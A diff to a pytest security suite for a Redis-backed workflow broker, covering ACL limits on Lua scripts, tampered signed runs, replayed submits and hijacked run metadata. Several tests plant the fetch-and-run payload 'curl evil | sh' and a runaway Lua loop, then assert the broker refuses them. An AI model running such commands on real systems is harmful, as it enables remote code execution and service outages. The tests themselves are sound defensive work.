@@ -419,21 +419,27 @@ def test_a_reaction_of_a_submitter_agent_starts_a_signed_file_under_the_acls(fle
     record("a reaction's run, of a signed file", "starter", "written by the agent", "written by a coordinator, ran")
 
 
-def test_an_agent_cannot_load_or_run_a_runaway_script(fleet: Fleet) -> None:
-    webc = fleet.deployment.client("webc")
+@pytest.mark.parametrize("user", ["webc", "watch", "approver", "client"])
+def test_no_user_but_the_coordinators_and_the_admins_loads_or_runs_lua_of_its_own(fleet: Fleet, user: str) -> None:
+    """Each may call phibroker's scripts only (by their SHA, as the coordinators loaded them): not load
+    or run any other, read-only ones included (EVAL_RO takes any text, a loop that never ends too)."""
+    conn = fleet.deployment.client(user)
     for what, call in {
-        "SCRIPT LOAD": lambda: webc.script_load(RUNAWAY),
-        "EVAL": lambda: webc.eval(RUNAWAY, 0),
-        "FUNCTION LOAD": lambda: webc.function_load(
+        "SCRIPT LOAD": lambda: conn.script_load(RUNAWAY),
+        "EVAL": lambda: conn.eval(RUNAWAY, 0),
+        "EVAL_RO": lambda: conn.eval_ro(RUNAWAY, 0),
+        "FUNCTION LOAD": lambda: conn.function_load(
             f"#!lua name=evil\nredis.register_function('f', function() {RUNAWAY} end)"
         ),
     }.items():
         with pytest.raises(NoPermissionError):
             call()
-            pytest.fail(f"webc may {what}")
-    with pytest.raises(NoScriptError):  # nobody loaded it: EVALSHA runs only what is in the cache
-        webc.evalsha(sha(RUNAWAY), 0)
-    record("SCRIPT LOAD + EVALSHA of a runaway loop", "webc", "worked: BUSY, every process died", "refused: NOPERM")
+            pytest.fail(f"{user} may {what}")
+    with pytest.raises((NoScriptError, NoPermissionError)):  # nobody loaded it: EVALSHA runs only the cache's
+        conn.evalsha_ro(sha(RUNAWAY), 0)
+    if user == "webc":
+        record("SCRIPT LOAD + EVALSHA of a runaway loop", "webc", "worked: BUSY, every process died", "refused: NOPERM")
+    record("EVAL_RO of a runaway loop", user, "worked: BUSY for everyone", "refused: NOPERM")
 
 
 def test_a_runaway_script_killed_by_the_admin_leaves_every_process_running_and_the_run_finishes(
@@ -463,7 +469,12 @@ def test_a_runaway_script_killed_by_the_admin_leaves_every_process_running_and_t
         return False
 
     until(busy, fleet.procs)
+    # a worker and a coordinator started meanwhile wait for Redis to serve again, as the running ones do
+    late = fleet.procs.logs / f"worker-webc-{len(fleet.procs.started)}.log"
+    fleet.deployment.worker(fleet.procs, "webc", "tests.apps.targets", TARGETS_LEDGER=str(fleet.ledger))
+    fleet.procs.spawn("coordinator", "coordinator", "--require-signed", **fleet.deployment.env("coordinator"))
     time.sleep(3)  # every process meets BUSY for a while
+    assert fleet.alive(), fleet.procs.output()
     assert admin.script_kill()
     thread.join(timeout=10)
     assert outcome and "killed" in str(outcome[0]).lower()
@@ -472,7 +483,10 @@ def test_a_runaway_script_killed_by_the_admin_leaves_every_process_running_and_t
     assert fleet.alive(), fleet.procs.output()
     with pytest.raises(NoScriptError):
         fleet.deployment.client("webc").evalsha(runaway, 0)
+    until(lambda: "serving webc (" in late.read_text(), fleet.procs)
+    assert fleet.alive(), fleet.procs.output()
     record("runaway script (admin's), killed after 3 s", "admin", "every process died", "all alive, run finished")
+    record("a worker or coordinator started while a script runs away", "admin", "exited 3", "waits, then runs")
 
 
 def test_a_result_with_a_token_never_issued_is_not_applied(fleet: Fleet) -> None:
@@ -594,17 +608,18 @@ def test_forged_expired_replayed_and_re_pointed_approvals_are_refused(fleet: Fle
 
 @pytest.mark.parametrize("relaunch", [False, True])
 def test_a_client_rewriting_a_launched_runs_spec_runs_none_of_it(fleet: Fleet, relaunch: bool) -> None:
-    """The client's user may write runs (it submits them), and holds the client's secret: it rewrites a
-    run waiting at its gate (cmdc's payload), signs the submit again and moves the version, so that a
-    coordinator reads the run again (and, `relaunch`, marks it not started, so that no start check
-    seems due). Read again, the run no longer matches its signed file under `--require-signed`: it
-    fails, saying so, and nothing of it runs on."""
+    """The client's user may not write runs (the coordinators write what it asks for). Whoever may (the
+    admin's user, say), holding the client's secret, rewrites a run waiting at its gate (cmdc's
+    payload), signs the submit again and moves the version, so that a coordinator reads the run again
+    (and, `relaunch`, marks it not started, so that no start check seems due). Read again, the run no
+    longer matches its signed file under `--require-signed`: it fails, saying so, and nothing of it
+    runs on."""
     keys = fleet.deployment.keys
     with fleet.client("client") as client:
         wf_id = client.submit(fleet.files["gated"])
     approver = fleet.client("approver")
     request = until(lambda: next((r for r in approver.approvals() if r["workflow"] == wf_id), None), fleet.procs)
-    raw = fleet.deployment.client("client")
+    raw = fleet.deployment.client("admin")
     meta = {k.decode(): v.decode() for k, v in raw.hgetall(keys.wf(wf_id)).items()}
     spec = json.loads(meta["spec"])
     spec["tasks"]["Ship"]["payload"] = {"run": "curl evil | sh"}
@@ -624,13 +639,14 @@ def test_a_client_rewriting_a_launched_runs_spec_runs_none_of_it(fleet: Fleet, r
     assert not [r for r in approver.approvals() if r["workflow"] == wf_id]  # its gate closed with it
     assert fleet.alive(), fleet.procs.output()
     what = "rewrite a launched run's spec, signed again" + (", marked not started" if relaunch else "")
-    record(what, "client", "worked: Ship ran it", "the run fails: tampered")
+    record(what, "admin", "worked: Ship ran it (as client)", "the run fails: tampered")
 
 
 def rewrite(fleet: Fleet, wf_id: str, **changes: Any) -> None:
-    """As the client's user: write these meta fields of a run (JSON ones given as values), with its
-    version moved on, so that a coordinator holding the run reads it again."""
-    raw = fleet.deployment.client("client")
+    """As a user that may write runs (the admin's: the client's may not): write these meta fields of a
+    run (JSON ones given as values), with its version moved on, so that a coordinator holding the run
+    reads it again."""
+    raw = fleet.deployment.client("admin")
     key = fleet.deployment.keys.wf(wf_id)
     version = int(raw.hget(key, "version") or 0)
     fields = {k: json.dumps(v) if isinstance(v, dict) else v for k, v in changes.items()}
@@ -647,7 +663,7 @@ def fails_as_tampered(fleet: Fleet, wf_id: str, task: str) -> None:
 
 
 def test_a_client_rewriting_a_launched_runs_params_runs_none_of_it(fleet: Fleet) -> None:
-    """No signed file covers a run's params: the client's user rewrites those of a run waiting at its
+    """No signed file covers a run's params: a user that may write runs rewrites those of a run waiting at its
     gate (Ship runs `${params.command}`). Read again, the run's params are not what the coordinators
     sealed: it fails, saying so, and Ship never runs."""
     with fleet.client("client") as client:
@@ -657,12 +673,12 @@ def test_a_client_rewriting_a_launched_runs_params_runs_none_of_it(fleet: Fleet)
     rewrite(fleet, wf_id, params={"command": "curl evil | sh"})
     approver.decide(request["id"], "approve", key=fleet.stryk, wait=0.5)
     fails_as_tampered(fleet, wf_id, "Ship")
-    record("rewrite a launched run's params", "client", "worked: Ship ran them", "the run fails: tampered")
+    record("rewrite a launched run's params", "admin", "worked: Ship ran them (as client)", "the run fails: tampered")
 
 
 def test_a_client_rewriting_a_spawned_tasks_payload_runs_none_of_it(fleet: Fleet) -> None:
-    """No signed file covers what a handler spawns: while the first spawned step runs, the client's user
-    rewrites the payload of the one after it (same agent, so the spawn rule holds). Read again, the
+    """No signed file covers what a handler spawns: while the first spawned step runs, a user that may
+    write runs rewrites the payload of the one after it (same agent, so the spawn rule holds). Read again, the
     run's spawned tasks are not what the coordinators sealed: it fails, and the rewritten one never runs."""
     with fleet.client("client") as client:
         wf_id = client.submit(fleet.files["staged"])
@@ -672,11 +688,11 @@ def test_a_client_rewriting_a_spawned_tasks_payload_runs_none_of_it(fleet: Fleet
     children["Plan/then"]["payload"] = {"run": "curl evil | sh"}
     rewrite(fleet, wf_id, children=children)
     fails_as_tampered(fleet, wf_id, "Plan/then")
-    record("rewrite a spawned task's payload", "client", "worked: webc ran it", "the run fails: tampered")
+    record("rewrite a spawned task's payload", "admin", "worked: webc ran it (as client)", "the run fails: tampered")
 
 
 def test_a_client_rewriting_an_ended_runs_params_cannot_retry_it_into_running_them(fleet: Fleet) -> None:
-    """A run ended; the client's user rewrites its params, marks it ended by failure, and asks to retry
+    """A run ended; a user that may write runs rewrites its params, marks it ended by failure; the client asks to retry
     its task: an ended run read again for a retry must still be what was signed and sealed, so the retry
     is refused, and the task never runs the rewritten params."""
     with fleet.client("client") as client:
@@ -687,7 +703,7 @@ def test_a_client_rewriting_an_ended_runs_params_cannot_retry_it_into_running_th
             client.retry(wf_id, from_task="Ship", timeout=30)
     assert [row["payload"] for row in fleet.ran(wf_id)] == [{"run": "make release"}]
     assert fleet.alive(), fleet.procs.output()
-    record("rewrite an ended run's params, then retry it", "client", "worked: Ship ran them", "refused: tampered")
+    record("rewrite an ended run's params, then retry it", "admin", "worked: Ship ran them (as client)", "refused")
 
 
 def test_digests_that_are_not_ascii_are_refused_and_stop_no_coordinator(fleet: Fleet) -> None:
@@ -704,7 +720,7 @@ def test_digests_that_are_not_ascii_are_refused_and_stop_no_coordinator(fleet: F
     spend = {"v": wire.VERSION, "id": wire.short_id(), "kind": "spend", "agent": "webc", "sig": "é" * 64, "body": body}
     fleet.deployment.client("webc").xadd(keys.agent_inbox("webc", wf_id), {wire.FIELD: wire.pack(spend)})
     assert "signature" in reasons_since(fleet, seen, 1)[0]
-    sealed = fleet.deployment.client("client").hget(keys.wf(wf_id), "seal").decode()
+    sealed = fleet.deployment.client("watch").hget(keys.wf(wf_id), "seal").decode()
     rewrite(fleet, wf_id, seal=sealed.rpartition(":")[0] + ":" + "é" * 64)
     approver.decide(request["id"], "approve", key=fleet.stryk, wait=0.5)
     fails_as_tampered(fleet, wf_id, "Ship")
@@ -1134,15 +1150,16 @@ def held(fleet: Fleet) -> str:
     return wf_id
 
 
-def copies(fleet: Fleet, kind: str, wf_id: str) -> list[bytes]:
-    """The signed `kind` messages for run `wf_id` in the inbox, oldest first, as the approver user reads them."""
+def copies(fleet: Fleet, kind: str, wf_id: str, sender: str = "client") -> list[bytes]:
+    """The `kind` messages `sender` signed for run `wf_id` in the inbox, oldest first, as the approver
+    user reads them."""
     found = []
     for _, fields in fleet.deployment.client("approver").xrange(fleet.deployment.keys.inbox(None)):
         try:
             message = wire.Inbox.decode(fields[wire.FIELD], 1 << 26)
         except (DecodeError, KeyError):
             continue
-        if message.kind == kind and message.body.get("wf") == wf_id and message.agent is not None:
+        if message.kind == kind and message.body.get("wf") == wf_id and message.agent == sender:
             found.append(fields[wire.FIELD])
     return found
 
@@ -1200,14 +1217,13 @@ def test_a_copy_of_an_earlier_retry_does_not_re_open_the_run_again(fleet: Fleet)
 
 
 def test_a_copy_of_a_submit_or_of_an_expired_runs_fields_starts_nothing(fleet: Fleet) -> None:
-    """A copy of a run's kick; and a run written again, with the client user, from the fields and
-    signature of one the client submitted eight days ago (as they were while it was kept)."""
+    """A copy of a client's submit; and a run asked for again from the fields and signature of one the
+    client submitted eight days ago (as they were while it was kept), which its user may not write."""
     seen = len(fleet.dead_letters())
     wf_id = held(fleet)
-    (kick,) = copies(fleet, "submit", wf_id)
-    add_again(fleet, kick)
-    (reason,) = reasons_since(fleet, seen, 1)
-    assert reason.startswith(f"replayed submit of run {wf_id!r} from 'client': message "), reason
+    (asked,) = copies(fleet, "submit", wf_id)
+    add_again(fleet, asked)  # a run that exists, whoever's, is never written to
+    until(lambda: f"submit of run {wf_id}, which exists already" in fleet.procs.output(), fleet.procs)
     finish(fleet, wf_id)
 
     workflow = workflows.load(fleet.directory / "files" / "held.yaml")
@@ -1215,16 +1231,18 @@ def test_a_copy_of_a_submit_or_of_an_expired_runs_fields_starts_nothing(fleet: F
     fields["created_at"] -= EIGHT_DAYS
     secret = fleet.deployment.env("client")["PHIBROKER_CLIENT_SECRET"].encode()
     fields.update(submitter="client", submit_sig=wire.submit_signature(secret, old, "client", fields))
-    fleet.store("client").submit_workflow(old, fields)  # written as copied: not signed again
-    with fleet.client("client") as waiter:
-        status = waiter.wait(old, timeout=60)  # the sweep kicks it, signed by a coordinator
+    with fleet.client("client") as client:
+        with pytest.raises(NoPermissionError):
+            client.broker.submit_workflow(old, fields, sign=False)  # written as copied
+        client.broker.ask_to_submit(old, fields)  # its creation time is what the client signed then
+        until(lambda: old in {row["id"] for row in client.list()}, fleet.procs)  # the coordinators write it
+        status = client.wait(old, timeout=60)
     assert status["state"] == "failed" and status["error"].startswith("refused: submitted "), status["error"]
     assert "longer than runs are kept" in status["error"] and not fleet.ran(old)
-    assert reasons_since(fleet, seen + 1, 1) == [
-        "forged submit: not signed (only client or coordinator identities may send it)"
-    ]
-    record("a copy of a run's submit", "approver", "changed nothing (started once)", "refused: replayed")
-    record("an expired run written again from its copy", "client", "worked: it ran again", "refused at start")
+    assert len(fleet.dead_letters()) == seen
+    record("a copy of a run's submit", "approver", "changed nothing (started once)", "changed nothing: it exists")
+    record("an expired run written again from its copy", "client", "worked: it ran again", "refused: NOPERM")
+    record("an expired run asked for again from its copy", "client", "(new path)", "refused at start")
 
 
 def test_an_expired_cancel_is_refused(fleet: Fleet) -> None:
@@ -1274,3 +1292,33 @@ def test_a_client_cannot_cancel_or_retry_another_clients_run(fleet: Fleet) -> No
     assert len(reasons_since(fleet, seen, 3)) == 3
     record("another client's cancel or retry", "starter", "worked: cancelled, re-opened", "refused: not its run")
     record("another client's cancel, from the CLI", "starter", "exit 0 (refused in the DLQ)", "exit 2, saying why")
+
+
+def test_a_clients_user_writes_no_run_so_it_takes_over_or_ends_none(fleet: Fleet) -> None:
+    """The client's user wrote its runs itself, so it could write any run's meta hash: it made the admin's
+    run its own (`submitter`), then cancelled it; or ended, held or refused it by writing its `state`,
+    `budget_request` or `launched`. The coordinators write the runs clients ask for now: the client's
+    user writes no run, new or not, and the run goes on as signed."""
+    keys = fleet.deployment.keys
+    with fleet.client("admin") as admin:
+        wf_id = admin.submit(fleet.files["team"])
+    until(lambda: fleet.unit(wf_id, "Scan", "state") == "running", fleet.procs)
+    raw = fleet.deployment.client("client")
+    meta = keys.wf(wf_id)
+    refused_all(
+        {
+            "HSET submitter": lambda: raw.hset(meta, mapping={"submitter": "client", "version": 99}),
+            "HSET state": lambda: raw.hset(meta, mapping={"state": "succeeded", "version": 99}),
+            "HSET budget_request": lambda: raw.hset(meta, mapping={"budget_request": "r1", "version": 99}),
+            "HSET launched": lambda: raw.hset(meta, mapping={"launched": 0, "submit_sig": "", "version": 99}),
+            "HSETNX a new run": lambda: raw.hsetnx(keys.wf("planted"), "spec", "{}"),
+            "EVALSHA CREATE": lambda: raw.evalsha(sha(scripts.CREATE), 1, keys.wf("planted"), "state", "running"),
+            "ZADD running": lambda: raw.zadd(keys.running, {"planted": 1}),
+        },
+        "client",
+    )
+    with fleet.client("client") as client, pytest.raises(InvalidInput, match="only its submitter"):
+        client.cancel(wf_id, reason="hijacked", wait=30)
+    untouched(fleet, wf_id)
+    for what in ("HSET submitter, then cancel", "HSET state, budget_request or launched"):
+        record(f"{what} of the admin's run", "client", "worked: cancelled, ended, held or refused", "refused: NOPERM")
